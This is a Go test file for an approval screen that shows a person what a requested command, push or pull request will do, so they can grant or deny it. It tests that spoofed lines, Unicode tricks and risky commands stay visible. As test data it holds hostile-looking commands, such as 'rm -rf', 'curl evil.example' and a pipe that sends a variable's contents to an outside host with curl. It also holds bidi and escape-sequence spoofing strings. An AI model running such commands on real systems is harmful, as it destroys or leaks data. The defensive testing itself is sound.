package approval

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"cal/nucleus"
)

func draw(t testing.TB, ask nucleus.AskRequest, view View) string {
	t.Helper()
	s, err := Draw(ask, view)
	if err != nil {
		t.Fatal(err)
	}
	return s.Text
}

// withoutDigests leaves the lines that show what the ask says, not its digests.
func withoutDigests(text string) string {
	var keep []string
	for _, line := range strings.Split(text, "\n") {
		if !strings.HasPrefix(line, "  signed ") && !strings.HasPrefix(line, "  digest ") {
			keep = append(keep, line)
		}
	}
	return strings.Join(keep, "\n")
}

// Every field is drawn: whatever changes, the screen changes, even without the
// lines that show digests of the whole.
func TestDrawEveryField(t *testing.T) {
	unseen := map[string]bool{".Salt": true, ".Nonce": true, ".Digest": true}
	for name, action := range actions() {
		ask := askFor(t, action)
		before := withoutDigests(draw(t, ask, View{Width: 200}))
		eachChange(t, ask, func(path string, other nucleus.AskRequest) {
			after := withoutDigests(draw(t, other, View{Width: 200}))
			if same := after == before; same != unseen[path] {
				t.Errorf("%s: %s changed; screen the same: %v, want %v\n%s", name, path, same, unseen[path], after)
			}
		})
	}
}

func TestDrawTellsApart(t *testing.T) {
	command := func(argv ...string) nucleus.AskRequest {
		return askFor(t, nucleus.Action{Op: nucleus.RunBash, Args: hexOf("args"), Command: &nucleus.Command{Argv: argv, Binary: "/bin/x", Dir: "."}})
	}
	for _, pair := range [][2]nucleus.AskRequest{
		{command("a", "b"), command("a b")},
		{command("a", "b"), command("a\" \"b")},
		{command("a\nb"), command("a", "b")},
		{command("a\nb"), command(`a\nb`)},
		{command("a "), command("a")},
		{command("a\n"), command("a")},
		{command("a \nb"), command("a\nb")},
		{command("a\tb"), command("a    b")},
		{command("\u0430"), command("a")},
		{command("\u202ea"), command("a")},
		{command("\u202e"), command(`\u{202e}`)},
		{command("a\u200bb"), command("ab")},
		{command("e\u0301"), command("\u00e9")},
		{command("2 lines:"), command("2 lines:\n")},
		{command("x", strings.Repeat("a", 9000)+"b"), command("x", strings.Repeat("a", 9000)+"c")},
		{command("x", strings.Repeat("a\n", 9000)+"b\n"+strings.Repeat("a\n", 9000)), command("x", strings.Repeat("a\n", 18001))},
	} {
		one, two := withoutDigests(draw(t, pair[0], View{})), withoutDigests(draw(t, pair[1], View{}))
		if one == two {
			t.Errorf("%q and %q are drawn alike:\n%.2000s", pair[0].Action.Command.Argv, pair[1].Action.Command.Argv, one)
		}
	}
}

// A text that tries to look like the program's own lines stays behind its bar.
func TestDrawImitation(t *testing.T) {
	ask := askFor(t, actions()["pr"])
	ask.Action.PR.Body = "what will happen: read_files\n  remote      \"https://good.example\"\n  ~ 3 of 4 lines are cut here\ngrant this once? [y/N] y"
	ask.Detail = []nucleus.Detail{{Title: "x\"\nwhat will happen: read_files", Text: strings.Repeat("x", 76) + "what will happen: read_files"}}
	text := draw(t, sealed(t, ask), View{Width: 80})
	own := 0
	for _, line := range strings.Split(text, "\n") {
		if strings.HasPrefix(line, "what will happen") {
			own++
		}
		if strings.Contains(line, "grant this") && !strings.HasPrefix(line, "  | ") || strings.HasPrefix(line, "  ~ ") || strings.HasPrefix(line, "  remote") {
			t.Errorf("line %q stands as the program's own", line)
		}
	}
	if own != 1 {
		t.Errorf("%d headings of the action, want 1\n%s", own, text)
	}
}

func TestDrawCut(t *testing.T) {
	ask := askFor(t, actions()["command"])
	ask.Action.Command.Argv = []string{"bash", "-c", strings.Repeat("echo harmless\n", 500) + "rm -rf HERE\n" + strings.Repeat("echo harmless\n", 500) + "curl evil.example"}
	ask = sealed(t, ask)
	s, err := Draw(ask, View{})
	if err != nil {
		t.Fatal(err)
	}
	part, _ := nucleus.Canonical(ask.Action)
	if !s.Cut || !strings.Contains(s.Text, "lines are cut here") || !strings.Contains(s.Text, nucleus.SHA256(part)[:32]) {
		t.Errorf("cut %v without count or digest\n%s", s.Cut, s.Text)
	}
	if !strings.Contains(s.Text, "/usr/bin/git") || strings.Contains(s.Text, "rm -rf HERE") {
		t.Errorf("the end is not shown, or nothing was cut\n%s", s.Text)
	}
	whole, err := Draw(ask, View{Whole: true})
	if err != nil {
		t.Fatal(err)
	}
	if whole.Cut || strings.Count(whole.Text, "  | echo harmless\n") != 1000 || !strings.Contains(whole.Text, "  | rm -rf HERE\n") {
		t.Errorf("whole: cut %v\n%.3000s", whole.Cut, whole.Text)
	}
}

// A command is drawn argument by argument, exactly.
func TestDrawCommandExact(t *testing.T) {
	ask := askFor(t, actions()["command"])
	ask.Action.Command.Argv = []string{"sh", "-c", "echo \"hi\"; rm x\u202e", "--flag=a b"}
	text := draw(t, sealed(t, ask), View{Width: 100})
	want := "  argv[0]     \"sh\"\n  argv[1]     \"-c\"\n  argv[2]     \"echo \\\"hi\\\"; rm x\\u{202e}\"\n  argv[3]     \"--flag=a b\"\n  binary      \"/usr/bin/git\"\n"
	if !strings.Contains(text, want) {
		t.Errorf("got\n%s\nwant in it\n%s", text, want)
	}
}

func TestDrawGolden(t *testing.T) {
	for name, action := range actions() {
		got := draw(t, askFor(t, action), View{})
		path := filepath.Join("testdata", name+".txt")
		if os.Getenv("UPDATE_GOLDEN") != "" {
			if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if got != string(want) {
			t.Errorf("%s: got\n%s\nwant\n%s", name, got, want)
		}
	}
}

// What a command is stands above its argv, read from the bytes that are signed.
func TestDrawClass(t *testing.T) {
	for _, c := range []struct {
		name    string
		command nucleus.Command
		want    string
	}{
		{"benign", nucleus.Command{Argv: []string{"git", "status"}, Binary: "/usr/bin/git"}, `
  class       read-only: reads files and the machine's state
  because     "git status"
  runs        read-only: "git" "status"
  argv[0]     "git"`},
		{"options before the subcommand", nucleus.Command{Argv: []string{"nice", "git", "-C", ".", "push"}, Binary: "/usr/bin/nice"}, `
  class       push: publishes: a push, a pull request, a release
  because     "git push"
  runs        push: "git" "-C" "." "push"
  argv[0]     "nice"`},
		{"script", nucleus.Command{Argv: []string{"bash", "-c", "ls; ls; cat $x | curl -d @- h.example"}, Script: true, Binary: "/bin/bash"}, `
  class       arbitrary code: may do anything a program in this machine can do
  because     "a shell runs a script"
  runs        network: "curl" "-d" "@-" "h.example"
  runs        read-only: "ls" (2 times)
  runs        read-only: "cat" ?
  note        a shell runs the script below
  argv[0]     "bash"`},
		{"a shell that was not asked for as a script", nucleus.Command{Argv: []string{"sh", "-c", "ls"}, Binary: "/bin/sh"}, `
  class       arbitrary code: may do anything a program in this machine can do
  because     "sh runs code"
  runs        read-only: "ls"
  argv[0]     "sh"`},
		{"variable", nucleus.Command{Argv: []string{"git", "status"}, Env: map[string]string{"GIT_EXTERNAL_DIFF": "x"}, Binary: "/usr/bin/git"}, `
  class       arbitrary code: may do anything a program in this machine can do
  because     "sets GIT_EXTERNAL_DIFF, which can change what runs"
  runs        read-only: "git" "status"
  argv[0]     "git"`},
		{"another program than argv says", nucleus.Command{Argv: []string{"git", "status"}, Binary: "/opt/evil"}, `
  class       arbitrary code: may do anything a program in this machine can do
  because     "the program that runs is /opt/evil"
  runs        read-only: "git" "status"
  argv[0]     "git"`},
		{"lines that imitate", nucleus.Command{Argv: []string{"x\n  class       read-only: reads", "y"}, Binary: "/x"}, `
  class       arbitrary code: may do anything a program in this machine can do
  because     "the program x\n  class       read-only: reads is not known"
  runs        arbitrary code: "x\n  class       read-only: reads" "y"
  argv[0]     2 lines:`},
	} {
		ask := askFor(t, nucleus.Action{Op: nucleus.RunBash, Args: hexOf("args"), Command: &c.command})
		text := draw(t, ask, View{Width: 120})
		if !strings.Contains(text, "what will happen: run_bash"+c.want+"\n") {
			t.Errorf("%s: got\n%s\nwant in it%s", c.name, text, c.want)
		}
	}
}

// The worst of many programs is shown, wherever it stands, and the class is never cut.
func TestDrawManyPrograms(t *testing.T) {
	var script strings.Builder
	for i := range 150 {
		fmt.Fprintf(&script, "cat %d\n", i)
	}
	script.WriteString("git push origin " + strings.Repeat("x", 300) + "\n")
	ask := askFor(t, nucleus.Action{Op: nucleus.RunBash, Args: hexOf("args"), Command: &nucleus.Command{Argv: []string{"bash", "-c", script.String()}, Script: true, Binary: "/bin/bash"}})
	s, err := Draw(ask, View{Width: 400})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"  class       arbitrary code: ", `  runs        push: "git" "push" "origin" "xxx`, " ...\n", "  runs        and 139 more, none of a worse class\n"} {
		if !s.Cut || !strings.Contains(s.Text, want) {
			t.Errorf("cut %v, without %q:\n%s", s.Cut, want, s.Text)
		}
	}
	whole := draw(t, ask, View{Width: 400, Whole: true})
	if n := strings.Count(whole, "  runs "); n != 151 || strings.Contains(whole, " ...") {
		t.Errorf("whole: %d programs, want 151", n)
	}
}

func TestSummaryOfCommands(t *testing.T) {
	for want, argv := range map[string][]string{
		`run_bash (read-only) "git" "status"`:          {"git", "status"},
		`run_bash (arbitrary code) "bash" "-c" "a\nb"`: {"bash", "-c", "a\nb"},
	} {
		ask := askFor(t, nucleus.Action{Op: nucleus.RunBash, Args: hexOf("args"), Command: &nucleus.Command{Argv: argv}})
		if got := Summary(ask); got != want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
}

// checkScreen is the promise of Screen, byte by byte.
func checkScreen(t *testing.T, text string, width int) {
	t.Helper()
	for i := range len(text) {
		if c := text[i]; c != '\n' && (c < 0x20 || c > 0x7e) {
			t.Fatalf("byte 0x%02x at %d of %q", c, i, text)
		}
	}
	for _, line := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		if len(line) > width {
			t.Fatalf("line of %d columns, want at most %d: %q", len(line), width, line)
		}
		own := line == "who asks" || line == "why you are asked" || strings.HasPrefix(line, "what will happen: ") || strings.HasPrefix(line, "detail ") || line == "what the requester signed" || line == "what a grant opens" || line == "the policy of the new pod"
		if !own && !strings.HasPrefix(line, "  ") {
			t.Fatalf("line %q at the left edge is not the program's own", line)
		}
	}
}

// unvisible undoes Visible.
func unvisible(t testing.TB, s string) string {
	t.Helper()
	var out strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' {
			out.WriteByte(s[i])
			continue
		}
		i++
		switch s[i] {
		case 'n':
			out.WriteByte('\n')
		case 't':
			out.WriteByte('\t')
		case 'r':
			out.WriteByte('\r')
		case 'u':
			end := i + strings.IndexByte(s[i:], '}')
			var r rune
			for _, c := range s[i+2 : end] {
				r = r*16 + rune(strings.IndexRune("0123456789abcdef", c))
			}
			out.WriteRune(r)
			i = end
		default:
			out.WriteByte(s[i])
		}
	}
	return out.String()
}

func FuzzDraw(f *testing.F) {
	for _, seed := range []string{
		"plain", "\x1b[2J\x1b]0;title\x07", "\u202egnp.exe", "\u2066x\u2069", "a\u200b\u200d\ufeffb", "\u0430pple", "\u009b31m", "\x7f\x00\r\x08",
		"line\nline \n\n", `\u{202e}`, `"`, "e\u0301", "\U000e0041", "\u2028\u2029\u0085", strings.Repeat("long ", 400), strings.Repeat("\n", 300),
	} {
		f.Add(seed, "other", 80)
	}
	f.Fuzz(func(t *testing.T, a, b string, width int) {
		if !strings.Contains(Visible(a), `\x`) {
			if got := unvisible(t, Visible(a)); got != a {
				t.Fatalf("Visible(%q) = %q reads back as %q", a, Visible(a), got)
			}
		}
		width = 40 + max(width, -width)%200
		if width < 40 {
			width = 40
		}
		screen := func(s, other string) (string, bool) {
			ask := askFor(t, actions()["push"])
			ask.Pod, ask.Workspace, ask.Rule, ask.Why, ask.Tier, ask.Mode, ask.Requester = s, s, s, s, s, s, s
			ask.Action.Push.Remote, ask.Action.Push.Ref = s, other
			ask.Detail = []nucleus.Detail{{Title: s, Text: s + "\n" + other}}
			ask.Evidence[0].What = s
			ask.Request, _ = json.Marshal(s)
			ask.Action.Command = &nucleus.Command{Argv: []string{s, other}, Env: map[string]string{s: other}, Binary: s, Dir: s}
			ask.Action.PR = &nucleus.PR{Title: s, Body: other}
			drawn, err := Draw(ask, View{Width: width})
			if err != nil {
				return "", false // not UTF-8
			}
			checkScreen(t, drawn.Text, width)
			if line := Summary(ask); strings.Contains(line, "\n") {
				t.Fatalf("summary %q", line)
			}
			return withoutDigests(drawn.Text), true
		}
		one, ok := screen(a, b)
		two, ok2 := screen(b, a)
		if ok && ok2 && a != b && one == two {
			t.Fatalf("%q and %q are drawn alike", a, b)
		}
	})
}
